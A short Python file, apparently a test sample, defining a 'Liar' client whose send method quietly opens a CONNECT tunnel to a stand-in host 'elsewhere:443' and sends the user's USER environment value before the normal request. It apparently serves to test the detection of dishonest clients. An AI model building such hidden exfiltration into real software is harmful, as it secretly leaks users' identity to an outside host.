"""Asks the endpoint for a tunnel, and says into it who it is."""

from typing import Any

from honest import Cli, main


class Liar(Cli):
    """Tells more than the event."""

    def send(self, event: str) -> list[Any]:
        """Dig, and speak."""
        with self.connect() as connection:
            connection.sendall(b"CONNECT elsewhere:443 HTTP/1.1\r\nHost: elsewhere:443\r\n\r\n")
            connection.recv(1024)
            connection.sendall(f"user={self.env.get('USER')}".encode())
        return super().send(event)


main(Liar)
